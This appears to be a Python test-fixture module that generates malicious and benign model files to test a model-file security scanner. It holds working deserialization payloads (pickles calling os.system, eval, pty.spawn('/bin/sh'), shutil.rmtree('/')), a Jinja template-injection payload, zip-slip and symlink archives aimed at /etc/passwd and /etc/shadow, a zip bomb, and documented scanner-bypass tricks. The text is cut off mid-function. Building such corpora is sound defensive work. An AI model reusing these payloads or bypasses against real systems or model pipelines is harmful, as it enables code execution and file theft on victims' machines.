"""A generated corpus of malicious and benign model files, every format the scanner
reads and every bypass reported against the peer scanners. Nothing here is ever
loaded: malicious pickles are assembled from opcodes (or pickled from objects whose
`__reduce__` names a dangerous callable, which pickling only records).

Each case says whether the file is malicious and which rules must fire; the tests
and `benchmarks/modelscan_bench.py` both build from here."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

# --- opcode assembly ---------------------------------------------------------------------


def op(name: str) -> bytes:
    return pickle.__dict__[name]


def u(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE for long text)."""
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def sb(data: bytes) -> bytes:
    """SHORT_BINBYTES or BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    return u(module) + u(name) + b"\x93"


def call1(func: bytes, arg: bytes) -> bytes:
    return func + arg + b"\x85R"


P4 = b"\x80\x04"
P2 = b"\x80\x02"


def reduce_call(module: str, name: str, arg: str = "id", proto: bytes = P4) -> bytes:
    return proto + call1(sglob(module, name) if proto == P4 else glob(module, name), u(arg)) + b"."


class _Reduce:
    """Pickles as a call of `func(*args)`; pickling only records the reference."""

    def __init__(self, func: Callable, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self):  # noqa: D105
        return self.func, self.args


def evil_object() -> _Reduce:
    return _Reduce(os.system, "echo pwned")


# --- containers and other formats ---------------------------------------------------------


def torch_zip(members: dict[str, bytes], *, compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compress) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def state_dict_pickle(proto: int = 2) -> bytes:
    """What torch.save writes as data.pkl for a small state dict, without torch."""
    rebuild = glob("torch._utils", "_rebuild_tensor_v2")
    storage = b"(" + u("storage") + glob("torch", "FloatStorage") + u("0") + u("cpu") + b"K\x04tQ"
    tensor = (
        rebuild
        + b"("
        + storage
        + b"K\x00K\x04\x85K\x01\x85\x89"
        + glob("collections", "OrderedDict")
        + b")RtR"
    )
    body = glob("collections", "OrderedDict") + b")R" + u("weight") + tensor + b"s"
    return bytes([0x80, proto]) + body + b"."


def npy_bytes(array_header: dict, data: bytes) -> bytes:
    header = repr(array_header).encode("latin-1")
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def safetensors_bytes(header: dict, data: bytes, raw_header: bytes | None = None) -> bytes:
    h = raw_header if raw_header is not None else json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + data


def gguf_string(text: str | bytes) -> bytes:
    data = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(data)) + data


def gguf_bytes(
    kv: dict[str, object], tensors: list[tuple[str, list[int], int, int]] | None = None, data_size: int = 0
) -> bytes:
    tensors = tensors or []
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kv))
    for key, value in kv.items():
        out += gguf_string(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + gguf_string(value)
        elif isinstance(value, list):
            out += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(gguf_string(v) for v in value)
        else:
            out += struct.pack("<IQ", 10, value)
    for name, dims, ggml_type, offset in tensors:
        out += gguf_string(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", ggml_type, offset)
    out += b"\x00" * (-len(out) % 32)
    return out + b"\x00" * data_size


BENIGN_TEMPLATE = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] }}"
    "{% if loop.last and add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}{% endfor %}"
)
EVIL_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"
)


# protobuf, by hand
def pb_varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_field(num: int, value: bytes | int | str) -> bytes:
    if isinstance(value, int):
        return pb_varint(num << 3) + pb_varint(value)
    data = value.encode() if isinstance(value, str) else value
    return pb_varint(num << 3 | 2) + pb_varint(len(data)) + data


def onnx_model(nodes: list[tuple[str, str]], external: list[str] = ()) -> bytes:
    graph = b"".join(pb_field(1, pb_field(4, op_type) + pb_field(7, domain)) for op_type, domain in nodes)
    for location in external:
        entry = pb_field(1, "location") + pb_field(2, location)
        tensor = pb_field(8, "w") + pb_field(13, entry) + pb_field(14, 1)
        graph += pb_field(5, tensor)
    return pb_field(1, 8) + pb_field(2, "pytorch") + pb_field(7, graph) + pb_field(8, pb_field(2, 17))


def saved_model(ops: list[str], keras_lambda: bool = False) -> bytes:
    nodes = b"".join(pb_field(1, pb_field(1, f"n{i}") + pb_field(2, o)) for i, o in enumerate(ops))
    meta = pb_field(2, nodes)
    if keras_lambda:
        metadata = json.dumps({"class_name": "Lambda", "config": {"name": "lambda"}}).encode()
        meta += pb_field(7, pb_field(1, pb_field(4, pb_field(3, metadata))))
    return pb_field(1, 1) + pb_field(2, meta)


def keras_zip(config: dict) -> bytes:
    return torch_zip(
        {
            "metadata.json": json.dumps({"keras_version": "3.6.0"}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"",
        }
    )


def keras_config(layers: list[dict]) -> dict:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "sequential", "layers": layers},
    }


DENSE = {
    "module": "keras.layers",
    "class_name": "Dense",
    "registered_name": None,
    "config": {"name": "dense", "units": 4, "activation": "relu"},
}
LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "registered_name": None,
    "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}},
}


def write_h5(path: Path, model_config: dict | None) -> None:
    import h5py

    with h5py.File(path, "w") as f:
        if model_config is not None:
            f.attrs["model_config"] = json.dumps(model_config)
            f.attrs["keras_version"] = "2.15.0"
        f.create_dataset("weights", data=np.zeros(4, dtype="f4"))


def joblib_bytes(array: np.ndarray, extra: bytes = b"") -> bytes:
    """A joblib file holding {'w': array} (+ `extra` key/value opcodes), as joblib
    writes it: a NumpyArrayWrapper whose raw bytes follow its BUILD."""
    dtype = (
        glob("numpy", "dtype")
        + u(array.dtype.str[1:])
        + b"\x89\x88\x87R"
        + b"(K\x03"
        + u(array.dtype.str[0])
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    state = (
        b"}("
        + u("subclass")
        + glob("numpy", "ndarray")
        + u("shape")
        + b"M"
        + struct.pack("<H", array.size)
        + b"\x85"
        + u("order")
        + u("C")
        + u("dtype")
        + dtype
        + u("allow_mmap")
        + b"\x89"
        + u("numpy_array_alignment_bytes")
        + b"K\x10ub"
    )
    head = P4 + b"}(" + u("w") + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state
    pad = 16 - (len(head) + 1) % 16
    tail = extra + b"u."
    return head + bytes([pad]) + b"\xff" * pad + array.tobytes() + tail


# --- the cases -------------------------------------------------------------------------------


@dataclass
class Case:
    name: str  # file name written (extension as an attacker would choose)
    build: Callable[[Path], None]
    malicious: bool
    rules: set[str] = field(default_factory=set)  # must all fire
    verdict: str | None = None  # expected verdict when not implied by `malicious`
    note: str = ""
    format: str = ""

    @property
    def expected_verdict(self) -> str:
        return self.verdict or ("unsafe" if self.malicious else "safe")


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return build


def _mal(name: str, data, *rules: str, note: str = "", fmt: str = "pickle") -> Case:
    return Case(name, _bytes(data), True, set(rules) or {"AIP-MODEL-001"}, note=note, format=fmt)


def _ok(name: str, data, note: str = "", fmt: str = "pickle") -> Case:
    return Case(name, _bytes(data), False, note=note, format=fmt)


def pickle_cases() -> list[Case]:
    evil = evil_object()
    return [
        *[
            _mal(f"reduce_os_system_p{p}.pkl", pickle.dumps(evil, protocol=p), note=f"protocol {p}")
            for p in range(6)
        ],
        _mal(
            "p0_disguised.bin",
            pickle.dumps(evil, protocol=0),
            note="CVE-2025-10155: protocol 0 named .bin",
            fmt="pytorch",
        ),
        _mal("p1_disguised.txt", pickle.dumps(evil, protocol=1), note="non-standard extension"),
        _mal("builtins_eval.pkl", reduce_call("builtins", "eval", "__import__('os').system('id')")),
        _mal("builtins_exec_p2.pkl", reduce_call("__builtin__", "exec", "import os", proto=P2)),
        _mal("builtins_getattr.pkl", reduce_call("builtins", "getattr", "x")),
        _mal("subprocess_popen.pkl", pickle.dumps(_Reduce(__import__("subprocess").Popen, ["id"]))),
        _mal("importlib_chain.pkl", _importlib_chain(), note="modelscan #331: importlib.import_module chain"),
        _mal(
            "numpy_builtins.pkl",
            _numpy_builtins(),
            "AIP-MODEL-001",
            "AIP-MODEL-005",
            note="modelscan #330: numpy.__builtins__ via BUILD",
        ),
        _mal(
            "numpy_runstring.pkl",
            reduce_call("numpy.testing._private.utils", "runstring", "import os"),
            note="numpy-reachable exec",
        ),
        _mal(
            "numpy_dotted_sys.pkl",
            P4 + glob("numpy", "core._internal.sys.modules") + b".",
            note="dotted attribute path into sys",
        ),
        _mal("pip_main.pkl", reduce_call("pip", "main", "install"), note="CVE-2025-1716: pip.main"),
        _mal(
            "asyncio_unix_events.pkl",
            reduce_call("asyncio.unix_events", "_UnixSubprocessTransport"),
            note="CVE-2025-10157: dangerous submodule",
        ),
        _mal("runpy.pkl", reduce_call("runpy", "run_path", "/tmp/x.py")),
        _mal("webbrowser.pkl", reduce_call("webbrowser", "open", "http://example.invalid")),
        _mal("socket.pkl", reduce_call("socket", "create_connection", "x")),
        _mal("shutil_rmtree.pkl", reduce_call("shutil", "rmtree", "/")),
        _mal("pty_spawn.pkl", reduce_call("pty", "spawn", "/bin/sh")),
        _mal("ctypes_cdll.pkl", reduce_call("ctypes", "CDLL", "libc.so.6")),
        _mal("torch_hub_load.pkl", reduce_call("torch.hub", "load", "evil/repo")),
        _mal(
            "functools_partial.pkl", P4 + call1(sglob("functools", "partial"), sglob("os", "system")) + b"."
        ),
        _mal("operator_attrgetter.pkl", reduce_call("operator", "attrgetter", "system")),
        _mal("operator_methodcaller.pkl", reduce_call("operator", "methodcaller", "system")),
        _mal("code_interact.pkl", reduce_call("code", "InteractiveInterpreter")),
        _mal("marshal_loads.pkl", P4 + call1(sglob("marshal", "loads"), sb(b"\xe3")) + b"."),
        _mal("types_functiontype.pkl", reduce_call("types", "FunctionType")),
        _mal("posix_alias.pkl", reduce_call("posix", "system")),
        _mal("nt_alias.pkl", reduce_call("nt", "system")),
        _mal("commands_py2.pkl", reduce_call("commands", "getoutput", "id", proto=P2)),
        _mal("memo_stack_global.pkl", _memo_stack_global(), note="operands fetched from the memo"),
        _mal(
            "dynamic_stack_global.pkl",
            _dynamic_stack_global(),
            "AIP-MODEL-003",
            "AIP-MODEL-005",
            note="modelscan #85: operands rewritten through BUILD",
        ),
        _mal("ext_code.pkl", P2 + b"\x82\x01" + u("id") + b"\x85R.", "AIP-MODEL-004"),
        _mal("inst_opcode.pkl", b"(" + u("id") + b"ios\nsystem\n.", note="INST"),
        _mal(
            "memo_after_run.pkl",
            P4
            + u("os")
            + b"\x94"
            + u("system")
            + b"\x94"
            + b"]\x94("
            + b"K\x01" * 100
            + b"e0h\x00h\x01\x93"
            + u("id")
            + b"\x85R.",
            note="operands memoised inside a long data run",
        ),
        _mal("obj_opcode.pkl", P2 + b"(" + glob("os", "system") + u("id") + b"o."),
        _mal("newobj_ex.pkl", P4 + sglob("subprocess", "Popen") + b")}\x92."),
        _mal("second_pickle.pkl", pickle.dumps([1, 2]) + pickle.dumps(evil), note="two pickles in one file"),
        _mal(
            "nested_pickle.pkl",
            pickle.dumps({"blob": pickle.dumps(evil)}),
            "AIP-MODEL-001",
            "AIP-MODEL-008",
            note="a pickle inside bytes inside a pickle",
        ),
        _mal("nested_big_pickle.pkl", lambda: pickle.dumps({"blob": pickle.dumps([b"x" * 300, evil])})),
        _mal(
            "hidden_after_data.pkl",
            lambda: (
                P4
                + u("x" * 70)
                + b"]"
                + b"("
                + b"K\x01" * 200
                + b"e0"
                + sglob("os", "system")
                + u("id")
                + b"\x85R."
            ),
            note="after a long run of plain data",
        ),
        _mal(
            "truncated_evil.pkl",
            pickle.dumps(evil)[:-1],
            "AIP-MODEL-001",
            "AIP-MODEL-006",
            note="truncated: what ran before the cut is still reported",
        ),
        _mal("evil_p2_protocol_marker.pkl", pickle.dumps(evil, protocol=2)),
        _ok("benign_dict.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": OrderedDict(k=(1, 2))})),
        _ok("benign_p0.pkl", pickle.dumps({"a": [1, 2, 3], "s": {1, 2}}, protocol=0)),
        _ok("benign_state_dict.bin", state_dict_pickle(), fmt="pytorch"),
        _ok("benign_numpy.pkl", pickle.dumps(np.arange(100, dtype="f4"), protocol=4)),
        _ok("benign_numpy_p2.pkl", pickle.dumps(np.arange(100, dtype="f4"), protocol=2)),
        _ok(
            "benign_big_list.pkl",
            lambda: pickle.dumps([(i, float(i), f"s{i}", {"k": i}) for i in range(3000)]),
        ),
        _ok(
            "benign_bytes.pkl",
            pickle.dumps({"raw": b"\x80\x02" + os.urandom(500)}),
            note="bytes that only look like a pickle",
        ),
        Case(
            "suspicious_custom_class.pkl",
            _bytes(reduce_call("mycompany.models", "Net", "cfg")),
            False,
            {"AIP-MODEL-002"},
            verdict="suspicious",
        ),
        Case(
            "truncated_benign.pkl",
            _bytes(pickle.dumps(list(range(50)))[:-5]),
            False,
            {"AIP-MODEL-006"},
            verdict="suspicious",
        ),
        Case(
            "never_ends.pkl",
            _bytes(lambda: P4 + b"(" + b"N" * 200_000),
            False,
            {"AIP-MODEL-006"},
            verdict="suspicious",
            note="no STOP",
        ),
    ]


def _importlib_chain() -> bytes:
    imp = sglob("importlib", "import_module") + b"\x94" + u("builtins") + b"\x85R\x94"
    getattr_ = sglob("builtins", "getattr") + b"\x94"
    return P4 + imp + getattr_ + b"h\x02h\x01" + u("eval") + b"\x86R" + u("1+1") + b"\x85R."


def _numpy_builtins() -> bytes:
    return (
        P4
        + sglob("numpy", "size")
        + b"\x94\x94"
        + sglob("numpy", "__builtins__")
        + b"\x94\x94"
        + b"h\x01}}"
        + u("shape")
        + b"h\x03s\x86b"
        + b"h\x01h\x01"
        + u("eval")
        + b"\x86R"
        + u("__import__('os').system('id')")
        + b"\x85R."
    )


def _memo_stack_global() -> bytes:
    return P4 + u("os") + b"\x94" + u("system") + b"\x94" + b"h\x00h\x01\x93" + u("id") + b"\x85R."


def _dynamic_stack_global() -> bytes:
    set_attrs = glob("numpy", "prod") + b"N(" + u("a") + u("os") + b"d\x86b0"
    return (
        P4
        + set_attrs
        + glob("numpy", "prod.a")
        + b"q\x00"
        + glob("numpy", "prod.b")
        + b"q\x01"
        + b"00h\x00h\x01\x93"
        + u("id")
        + b"\x85R."
    )


def archive_cases() -> list[Case]:
    evil_pkl = pickle.dumps(evil_object(), protocol=2)
    bad_crc = _zip_with_bad_crc(evil_pkl)
    odd_flags = _zip_with_flag_bits(evil_pkl)
    return [
        _ok(
            "torch_checkpoint.pt",
            torch_zip(
                {
                    "archive/data.pkl": state_dict_pickle(),
                    "archive/version": b"3\n",
                    "archive/data/0": b"\x80\x02" + b"\x00" * 16,
                }
            ),
            fmt="pytorch",
        ),
        _mal(
            "torch_evil.pt",
            torch_zip({"archive/data.pkl": evil_pkl, "archive/version": b"3\n"}),
            fmt="pytorch",
        ),
        _mal(
            "torch_nonstandard_name.pt",
            torch_zip({"archive/data.pkl": state_dict_pickle(), "archive/config.p": evil_pkl}),
            note="CVE-2025-1889: pickle member with a non-standard name",
            fmt="pytorch",
        ),
        _mal(
            "torch_deflated.pt",
            torch_zip({"archive/data.pkl": evil_pkl}, compress=zipfile.ZIP_DEFLATED),
            fmt="pytorch",
        ),
        _mal(
            "bad_crc.pt",
            bad_crc,
            "AIP-MODEL-001",
            "AIP-MODEL-012",
            note="CVE-2025-10156: bad CRC, scanned anyway",
            fmt="pytorch",
        ),
        _mal(
            "odd_flags.pt",
            odd_flags,
            "AIP-MODEL-001",
            "AIP-MODEL-012",
            note="CVE-2025-10156: odd flag bits, scanned anyway",
            fmt="pytorch",
        ),
        _mal("zip_slip.zip", torch_zip({"../../evil.pkl": pickle.dumps([1])}), "AIP-MODEL-009", fmt="zip"),
        _mal("zip_symlink.zip", _zip_symlink(), "AIP-MODEL-010", fmt="zip"),
        Case("zip_bomb.zip", _bytes(_zip_bomb), False, {"AIP-MODEL-011"}, verdict="suspicious", format="zip"),
        Case(
            "nested_deep.zip", _bytes(_deep_zip), False, {"AIP-MODEL-011"}, verdict="suspicious", format="zip"
        ),
        _mal("zip_in_zip.zip", torch_zip({"inner.zip": torch_zip({"x/data.pkl": evil_pkl})}), fmt="zip"),
        _mal("legacy_tar.pt", _legacy_tar(evil_pkl), fmt="pytorch-legacy"),
        _ok("legacy_tar_benign.pt", _legacy_tar(state_dict_pickle()), fmt="pytorch-legacy"),
        _mal("tar_symlink.tar", _tar_symlink(), "AIP-MODEL-010", fmt="tar"),
        _mal("tar_gz_evil.tar.gz", _tar_gz(evil_pkl), fmt="gzip+tar"),
        _mal(
            "polyglot.pkl",
            lambda: evil_pkl + torch_zip({"archive/data.pkl": state_dict_pickle()}),
            "AIP-MODEL-001",
            "AIP-MODEL-026",
            note="pickle and zip at once",
        ),
    ]


def _zip_with_bad_crc(payload: bytes) -> bytes:
    data = bytearray(torch_zip({"archive/data.pkl": payload}))
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 16 : cd + 20] = b"\xde\xad\xbe\xef"
    data[14:18] = b"\xde\xad\xbe\xef"
    return bytes(data)


def _zip_with_flag_bits(payload: bytes) -> bytes:
    data = bytearray(torch_zip({"archive/data.pkl": payload}))
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 8 : cd + 10] = struct.pack("<H", 0x0020 | 0x0040)
    data[6:8] = struct.pack("<H", 0x0020 | 0x0040)
    return bytes(data)


def _zip_symlink() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("weights.bin")
        info.external_attr = 0o120777 << 16
        zf.writestr(info, "/etc/passwd")
    return buf.getvalue()


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        with zf.open("data.pkl", "w", force_zip64=True) as member:
            chunk = b"\x00" * (1 << 20)
            for _ in range(64):
                member.write(chunk)
    return buf.getvalue()


def _deep_zip() -> bytes:
    data = pickle.dumps([1, 2])
    for level in range(8):
        data = torch_zip({f"level{level}.zip" if level else "data.pkl": data})
    return data


def _legacy_tar(pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in (
            ("sys_info", pickle.dumps({"little_endian": True})),
            ("pickle", pkl),
            ("storages", pickle.dumps(0)),
            ("tensors", pickle.dumps(0)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _tar_symlink() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("model.bin")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        tf.addfile(info)
    return buf.getvalue()


def _tar_gz(pkl: bytes) -> bytes:
    import gzip

    return gzip.compress(_legacy_tar(pkl))


def array_cases() -> list[Case]:
    evil_pkl = pickle.dumps(np.array([evil_object()], dtype=object), protocol=4)
    return [
        _ok(
            "array.npy",
            npy_bytes({"descr": "<f4", "fortran_order": False, "shape": (4,)}, b"\x00" * 16),
            fmt="numpy",
        ),
        _mal(
            "object_array.npy",
            npy_bytes({"descr": "|O", "fortran_order": False, "shape": (1,)}, evil_pkl),
            "AIP-MODEL-001",
            "AIP-MODEL-027",
            fmt="numpy",
        ),
        _mal(
            "object_array.dat",
            npy_bytes({"descr": "|O", "fortran_order": False, "shape": (1,)}, evil_pkl),
            note="npy under another name",
            fmt="numpy",
        ),
        Case(
            "short_array.npy",
            _bytes(npy_bytes({"descr": "<f8", "fortran_order": False, "shape": (100,)}, b"\x00" * 8)),
            False,
            {"AIP-MODEL-020"},
            verdict="unsafe",
            format="numpy",
        ),
        _ok(
            "arrays.npz",
            torch_zip(
                {"a.npy": npy_bytes({"descr": "<i8", "fortran_order": False, "shape": (2,)}, b"\x00" * 16)}
            ),
            fmt="npz",
        ),
        _mal(
            "evil.npz",
            torch_zip({"a.npy": npy_bytes({"descr": "|O", "fortran_order": False, "shape": (1,)}, evil_pkl)}),
            fmt="npz",
        ),
        _ok("model.joblib", joblib_bytes(np.arange(20, dtype="f8")), fmt="joblib"),
        _mal(
            "evil.joblib",
            joblib_bytes(np.arange(20, dtype="f8"), u("e") + sglob("os", "system") + u("id") + b"\x85R"),
            fmt="joblib",
        ),
        _mal("evil_compressed.joblib", zlib.compress(pickle.dumps({"m": evil_object()})), fmt="joblib"),
        _ok("compressed.joblib", zlib.compress(joblib_bytes(np.arange(20, dtype="f8"))), fmt="joblib"),
    ]


def keras_cases() -> list[Case]:
    return [
        _ok("model.keras", keras_zip(keras_config([DENSE])), fmt="keras"),
        _mal("lambda.keras", keras_zip(keras_config([DENSE, LAMBDA])), "AIP-MODEL-013", fmt="keras"),
        _mal(
            "module_os.keras",
            keras_zip(
                keras_config(
                    [{"module": "os", "class_name": "system", "config": {}, "registered_name": None}]
                )
            ),
            fmt="keras",
            note="CVE-2025-1550: config references an arbitrary module",
        ),
        _mal(
            "function_get_file.keras",
            keras_zip(
                keras_config(
                    [
                        {
                            "module": "keras.utils",
                            "class_name": "function",
                            "config": "get_file",
                            "registered_name": "function",
                        }
                    ]
                )
            ),
            fmt="keras",
            note="keras.utils.get_file",
        ),
        Case(
            "custom.keras",
            _bytes(
                keras_zip(
                    keras_config(
                        [
                            {
                                "module": "mylib.layers",
                                "class_name": "Attn",
                                "config": {},
                                "registered_name": "mylib>Attn",
                            }
                        ]
                    )
                )
            ),
            False,
            {"AIP-MODEL-014"},
            verdict="suspicious",
            format="keras",
        ),
        Case(
            "model.h5",
            lambda p: write_h5(
                p, {"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {}}]}}
            ),
            False,
            format="hdf5",
        ),
        Case(
            "lambda.h5",
            lambda p: write_h5(
                p,
                {
                    "class_name": "Sequential",
                    "config": {
                        "layers": [
                            {
                                "class_name": "Lambda",
                                "config": {"function": ["4wEAAAAA", None, None], "function_type": "lambda"},
                            }
                        ]
                    },
                },
            ),
            True,
            {"AIP-MODEL-013"},
            format="hdf5",
        ),
    ]


def graph_cases() -> list[Case]:
    return [
        Case(
            "saved_model.pb",
            _bytes(saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"])),
            False,
            format="savedmodel",
        ),
        _mal(
            "evil_saved_model.pb",
            saved_model(["Placeholder", "ReadFile", "WriteFile"]),
            "AIP-MODEL-015",
            fmt="savedmodel",
        ),
        _mal("pyfunc_saved_model.pb", saved_model(["PyFunc"]), "AIP-MODEL-015", fmt="savedmodel"),
        _mal(
            "keras_lambda_saved_model.pb",
            saved_model(["MatMul"], keras_lambda=True),
            "AIP-MODEL-013",
            fmt="savedmodel",
        ),
        _ok(
            "model.onnx",
            onnx_model([("MatMul", ""), ("Relu", "ai.onnx"), ("FusedGemm", "com.microsoft")]),
            fmt="onnx",
        ),
        Case(
            "custom_op.onnx",
            _bytes(onnx_model([("Evil", "com.attacker")])),
            False,
            {"AIP-MODEL-016"},
            verdict="suspicious",
            format="onnx",
        ),
        _mal(
            "external_escape.onnx",
            onnx_model([("MatMul", "")], external=["../../../../etc/passwd"]),
            "AIP-MODEL-017",
            fmt="onnx",
        ),
        _mal(
            "external_absolute.onnx",
            onnx_model([("MatMul", "")], external=["/etc/shadow"]),
            "AIP-MODEL-017",
            fmt="onnx",
        ),
    ]


def weights_cases() -> list[Case]:
    ok_header = {
        "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "__metadata__": {"format": "pt"},
    }
    return [
        _ok("model.safetensors", safetensors_bytes(ok_header, b"\x00" * 16), fmt="safetensors"),
        _mal(
            "overlap.safetensors",
            safetensors_bytes(
                {
                    "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                    "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
                },
                b"\x00" * 24,
            ),
            "AIP-MODEL-020",
            fmt="safetensors",
        ),
        _mal(
            "out_of_range.safetensors",
            safetensors_bytes(
                {"a": {"dtype": "F32", "shape": [1000], "data_offsets": [0, 4000]}}, b"\x00" * 16
            ),
            "AIP-MODEL-020",
            fmt="safetensors",
        ),
        _mal(
            "duplicate_key.safetensors",
            safetensors_bytes(
                {},
                b"\x00" * 8,
                raw_header=(
                    b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
                    b'"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
                ),
            ),
            "AIP-MODEL-020",
            fmt="safetensors",
        ),
        Case(
            "bad_json.safetensors",
            _bytes(safetensors_bytes({}, b"", raw_header=b'{"a": {"dtype": ')),
            False,
            {"AIP-MODEL-006"},
            verdict="suspicious",
            format="safetensors",
        ),
        Case(
            "bad_dtype.safetensors",
            _bytes(
                safetensors_bytes({"a": {"dtype": "X99", "shape": [1], "data_offsets": [0, 4]}}, b"\x00" * 4)
            ),
            False,
            {"AIP-MODEL-006"},
            verdict="suspicious",
            format="safetensors",
        ),
        _ok(
            "model.gguf",
            gguf_bytes(
                {
                    "general.architecture": "llama",
                    "tokenizer.chat_template": BENIGN_TEMPLATE,
                    "tokenizer.ggml.tokens": ["a", "b"],
                },
                [("w", [8], 0, 0)],
                data_size=32,
            ),
            fmt="gguf",
        ),
        _mal(
            "evil_template.gguf",
            gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": EVIL_TEMPLATE}),
            "AIP-MODEL-018",
            note="CVE-2024-34359",
            fmt="gguf",
        ),
        _mal(
            "evil_template_attr.gguf",
            gguf_bytes(
                {"tokenizer.chat_template.tool_use": "{{ cycler|attr('__init__')|attr('__globals__') }}"}
            ),
            "AIP-MODEL-018",
            fmt="gguf",
        ),
        _mal(
            "gguf_tensor_oob.gguf",
            gguf_bytes({"general.architecture": "llama"}, [("w", [1 << 20], 0, 0)], data_size=32),
            "AIP-MODEL-020",
            fmt="gguf",
        ),
        _mal(
            "gguf_huge_count.gguf", b"GGUF" + struct.pack("<IQQ", 3, 1, 1 << 60), "AIP-MODEL-020", fmt="gguf"
        ),
    ]


def bad_input_cases() -> list[Case]:
    return [
        Case("empty.pt", _bytes(b""), False, {"AIP-MODEL-021"}, verdict="error", format="unknown"),
        Case(
            "random.bin",
            _bytes(lambda: np.random.default_rng(1).bytes(100_000)),
            False,
            {"AIP-MODEL-021"},
            verdict="error",
            format="unknown",
        ),
        Case(
            "random.pkl",
            _bytes(lambda: np.random.default_rng(2).bytes(4096)),
            False,
            {"AIP-MODEL-021"},
            verdict="error",
            format="unknown",
        ),
    ]


LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + "
    "message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}"
    "{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)
MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}"
)


def more_benign_cases() -> list[Case]:
    """Everyday files of each format, so that false positives have something to show."""
    import datetime
    import decimal
    import uuid

    arrays = {f"layer{i}": np.arange(64, dtype="f4").reshape(8, 8) for i in range(3)}
    many = {
        f"t{i}": {"dtype": "F16", "shape": [4, 4], "data_offsets": [32 * i, 32 * (i + 1)]} for i in range(5)
    }
    policy = {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }
    layers = [
        {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, 28, 28, 1]},
            "registered_name": None,
        },
        {
            "module": "keras.layers",
            "class_name": "Conv2D",
            "registered_name": None,
            "config": {"filters": 8, "kernel_size": [3, 3], "activation": "relu", "dtype": policy},
        },
        {"module": "keras.layers", "class_name": "Dropout", "config": {"rate": 0.2}, "registered_name": None},
        DENSE,
    ]
    values = {
        "when": datetime.datetime(2026, 1, 1),
        "price": decimal.Decimal("1.5"),
        "id": uuid.UUID(int=7),
